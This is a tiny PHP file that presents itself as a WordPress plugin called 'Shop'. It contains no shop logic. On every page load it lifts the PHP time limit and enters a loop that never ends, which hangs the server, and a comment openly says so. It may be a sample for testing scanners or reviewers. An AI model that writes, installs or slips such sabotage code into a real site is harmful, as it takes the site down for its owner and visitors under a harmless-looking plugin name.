<?php
/* Plugin Name: Shop */

// An update with a loop whose condition never comes true, and no limit on it.
add_action('init', function () {
    set_time_limit(0);
    for ($i = 0; $i >= 0; $i = ($i + 1) % 1000) {
    }
});
